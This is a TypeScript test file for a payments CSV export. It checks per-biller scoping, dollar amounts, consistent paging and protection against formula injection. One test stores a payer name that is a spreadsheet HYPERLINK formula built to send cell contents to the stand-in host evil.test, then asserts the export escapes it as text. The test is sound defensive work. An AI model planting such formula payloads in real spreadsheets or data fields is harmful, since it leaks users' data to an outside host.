// The payments CSV, streamed: only the biller's rows in the range, dollars and the Invoice Cloud GUID,
// a formula-looking name kept as text, and the same bytes however the rows fall into pages.
import { randomUUID } from "node:crypto";
import { parse } from "csv-parse/sync";
import { describe, expect, it } from "vitest";
import { db } from "@/lib/db";
import { generateBillerReference } from "@/lib/identifiers";
import { applyPostback } from "@/lib/payments/apply-postback";
import { createUser } from "@/prisma/factories";
import { arrangeAttempt, arrangeConfiguredBiller, arrangeInvoices, postbackFields } from "@/test/payment-fixtures";
import { streamPaymentsCsv } from "./stream-payments-csv";

const kind = process.env.TEST_DB_KIND;

async function read(stream: ReadableStream<Uint8Array>): Promise<{ text: string; chunks: number }> {
  const reader = stream.getReader();
  const decoder = new TextDecoder();
  let text = "";
  let chunks = 0;
  for (;;) {
    const { done, value } = await reader.read();
    if (done) return { text, chunks };
    chunks++;
    text += decoder.decode(value, { stream: true });
  }
}

const HEADER =
  "created,closed,status,total,paid,convenience_fee,invoice_numbers,account_number,applicant,email,invoice_cloud_payment_guid,payment_id,reason";
const lastHour = () => ({ from: new Date(Date.now() - 3600_000), to: new Date(Date.now() + 3600_000) });

describe.skipIf(kind === "none")(`streamPaymentsCsv (${kind})`, () => {
  it("exports only this biller's attempts in the range, with dollars and the Invoice Cloud GUID", async () => {
    const biller = await arrangeConfiguredBiller(db);
    const other = await arrangeConfiguredBiller(db);
    const mine = await arrangeInvoices(db, biller.id, [6000, 125075]);
    const theirs = await arrangeInvoices(db, other.id, [999]);
    const attempt = await arrangeAttempt(db, { billerId: biller.id, applicantId: mine.applicant.id, invoices: mine.invoices });
    await arrangeAttempt(db, { billerId: other.id, applicantId: theirs.applicant.id, invoices: theirs.invoices });
    const pb = postbackFields(attempt);
    await applyPostback({ paymentId: attempt.id, ...pb });

    const { text } = await read(streamPaymentsCsv({ billerId: biller.id, ...lastHour() }));
    const lines = text.trim().split("\n");
    expect(lines).toHaveLength(2);
    expect(lines[0]).toBe(HEADER);
    expect(lines[1]).toContain(",PAID,1310.75,1310.75,0.00,");
    expect(lines[1]).toContain(pb.raw.PaymentGUID!);
    expect(lines[1]).toContain(attempt.id);
    expect(text).not.toContain(attempt.billerReference);

    const later = { from: new Date(Date.now() + 3600_000), to: new Date(Date.now() + 7200_000) };
    expect((await read(streamPaymentsCsv({ billerId: biller.id, ...later }))).text).toBe(`${HEADER}\n`);
  });

  it("keeps a payer named like a spreadsheet formula as text", async () => {
    const biller = await arrangeConfiguredBiller(db);
    const { applicant, invoices } = await arrangeInvoices(db, biller.id, [5000]);
    const hostile = '=HYPERLINK("http://evil.test/?d="&A1,"Click for refund")';
    await db.user.update({ where: { id: applicant.id }, data: { name: hostile } });
    await arrangeAttempt(db, { billerId: biller.id, applicantId: applicant.id, invoices });

    const row = (await read(streamPaymentsCsv({ billerId: biller.id, ...lastHour() }))).text.trim().split("\n")[1]!;
    // The cell starts with a quote mark, so a spreadsheet shows it as text; the name is still there.
    expect(row).toContain(`,"'=HYPERLINK(""http://evil.test/?d=""&A1,""Click for refund"")",`);
    expect(row).not.toMatch(/(^|,)"?=HYPERLINK/);
  });

  it("gives the same bytes a page at a time as in one page", async () => {
    const biller = await arrangeConfiguredBiller(db);
    const other = await arrangeConfiguredBiller(db);
    const { applicant, invoices } = await arrangeInvoices(db, biller.id, [6000, 125075]);
    const formula = await createUser(db, { role: "APPLICANT", name: "=HYPERLINK(1)" });
    const base = Date.now() - 3 * 3600_000;
    const row = (billerId: string, i: number) => ({
      id: randomUUID(),
      billerId,
      applicantId: i % 2 ? formula.id : applicant.id,
      billerReference: generateBillerReference(),
      status: (["PAID", "DECLINED", "EXPIRED"] as const)[i % 3]!,
      totalCents: 1000 + i,
      paidAmountCents: i % 3 === 0 ? 1000 + i : null,
      failureReason: i % 3 === 1 ? "Card declined" : null,
      expiresAt: new Date(base),
      createdAt: new Date(base + i * 1000),
    });
    await db.paymentAttempt.createMany({ data: [...Array.from({ length: 11 }, (_, i) => row(biller.id, i)), row(other.id, 0)] });
    await arrangeAttempt(db, { billerId: biller.id, applicantId: applicant.id, invoices });
    const range = { billerId: biller.id, from: new Date(base - 1000), to: new Date(Date.now() + 3600_000) };

    const whole = await read(streamPaymentsCsv({ ...range, pageRows: 1000 }));
    expect(whole.chunks).toBe(1);
    const records = parse(whole.text, { columns: true }) as Record<string, string>[];
    expect(records).toHaveLength(12); // not the other biller's
    // Oldest first, the arranged attempt (created now) last.
    const totals = records.map((r) => Math.round(Number(r.total) * 100));
    expect(totals).toEqual([...Array.from({ length: 11 }, (_, i) => 1000 + i), 131075]);
    const streamed = await read(streamPaymentsCsv({ ...range, pageRows: 5 }));
    expect(streamed.text).toBe(whole.text);
    expect(streamed.chunks).toBe(3);
    expect(streamed.text).toContain("'=HYPERLINK(1)");

    const empty = await read(streamPaymentsCsv({ billerId: biller.id, from: new Date(0), to: new Date(1000) }));
    expect(empty.text).toBe(`${HEADER}\n`);
  });
});
